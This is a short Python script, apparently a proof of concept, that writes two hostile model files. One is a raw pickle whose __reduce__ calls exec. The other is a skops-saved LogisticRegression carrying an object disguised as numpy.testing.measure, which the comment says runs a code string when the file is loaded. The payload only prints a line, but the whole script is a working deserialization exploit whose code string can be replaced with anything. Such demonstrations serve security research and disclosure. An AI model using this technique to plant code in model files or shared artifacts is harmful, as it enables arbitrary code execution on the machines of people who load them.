import pickle
from pathlib import Path

import skops.io
from numpy.testing import measure
from sklearn.linear_model import LogisticRegression

CODE = "print('  This sentence was printed by the file.')"


class Timing:
    """A class that is saved under the name of a function."""

    def __reduce__(self):
        return type(self), (CODE, 1)


class Trap:
    """A pickle that prints while it is loaded."""

    def __reduce__(self):
        return exec, (CODE,)


Path("renamed.skops").write_bytes(pickle.dumps(Trap()))

Timing.__module__, Timing.__name__ = measure.__module__, measure.__name__
model = LogisticRegression()
model.timing_ = Timing()  # when loaded: measure(CODE, 1)
skops.io.dump(model, "hostile.skops")
print("made renamed.skops and hostile.skops")
